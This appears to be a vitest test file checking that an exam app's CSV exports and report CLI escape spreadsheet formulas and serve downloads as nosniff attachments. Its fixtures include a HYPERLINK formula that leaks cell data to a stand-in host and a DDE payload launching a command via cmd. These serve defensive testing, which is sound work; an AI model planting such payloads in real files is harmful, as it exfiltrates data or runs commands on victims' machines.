/**
 * CSV exports never carry a live formula: a learner named `=HYPERLINK(…)` and an answer planted as a
 * formula come out as text in both exports and the report CLI; numbers stay numbers; downloads are
 * attachments with nosniff.
 */
import { execFileSync } from "node:child_process";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Browserish, createUser, startServer, type TestServer } from "../../helpers/server";
import { DAY, seedAttempt, seedCohort, seedExam, seedQuestion } from "./seed";

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
const EVIL_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0";
const EVIL_TEAM = "-2+3";

let server: TestServer;
let trainer: Browserish;
let admin: Browserish;
let examId: number;
let cohortId: number;

beforeAll(async () => {
  server = await startServer();
  const db = server.db;
  const t = Date.now();
  const trainerId = (await createUser(db, { employeeNo: "XT01", role: "trainer", password: "pass-12345" })).id;
  await createUser(db, { employeeNo: "XA01", role: "admin", password: "pass-12345" });
  const learner = (await createUser(db, { employeeNo: "XL01", name: EVIL_NAME, team: EVIL_TEAM, password: "pass-12345" })).id;
  await seedQuestion(db, "csv-q1", trainerId);
  examId = await seedExam(db, "+导出测试");
  cohortId = await seedCohort(db, "=导出班", trainerId, [{ userId: learner, addedAt: t - 10 * DAY }], [{ examId, assignedAt: t - 10 * DAY }]);
  await seedAttempt(db, { id: "csv-a1", examId, userId: learner, startedAt: t - DAY, questionId: "csv-q1", response: EVIL_ANSWER, right: false });
  trainer = new Browserish(server.url);
  admin = new Browserish(server.url);
  await Promise.all([trainer.login("XT01", "pass-12345"), admin.login("XA01", "pass-12345")]);
});
afterAll(() => server?.stop());

const rows = (text: string) => parse(text.replace(/^\uFEFF/, "")) as string[][];
/** No cell a spreadsheet would evaluate, except plain numbers. */
function expectNoFormula(table: string[][]) {
  for (const row of table) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, cell).toMatch(/^[+-]?\d+(\.\d+)?$/);
}

describe("CSV formula injection", () => {
  it("the raw responses CSV neutralises the planted name and answer and is a nosniff attachment", async () => {
    const res = await trainer.get(`/trainer/exams/${examId}/responses.csv?cohort=${cohortId}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment;/);
    const table = rows(await res.text());
    expectNoFormula(table);
    const row = table.find((r) => r[0] === "XL01")!;
    expect(row[1]).toBe(`'${EVIL_NAME}`);
    expect(row[2]).toBe("'+导出测试");
    expect(row[7]).toBe(`'${EVIL_ANSWER}`);
    expect(row[9]).toBe("0"); // a number stays a number
  });

  it("the cohort results CSV too", async () => {
    const res = await trainer.get(`/trainer/cohorts/${cohortId}/results.csv`);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment;/);
    const table = rows(await res.text());
    expectNoFormula(table);
    const row = table.find((r) => r[0] === "XL01")!;
    expect(row[1]).toBe(`'${EVIL_NAME}`);
    expect(row[2]).toBe(`'${EVIL_TEAM}`);
    expect(table[0].some((h) => h.startsWith("'+导出测试"))).toBe(true);
  });

  it("the question bank export is a nosniff attachment", async () => {
    const res = await admin.get("/trainer/questions/export?format=json");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment;/);
  });

  it("the report CLI writes the same neutralised CSV", () => {
    const out = execFileSync(process.execPath, ["node_modules/tsx/dist/cli.mjs", "scripts/report.ts", "--exam", String(examId), "--format", "csv"], {
      env: { ...process.env, ...server.databaseEnv },
      encoding: "utf8",
    });
    const table = rows(out);
    expectNoFormula(table);
    expect(table.find((r) => r[0] === "XL01")![7]).toBe(`'${EVIL_ANSWER}`);
  });
});
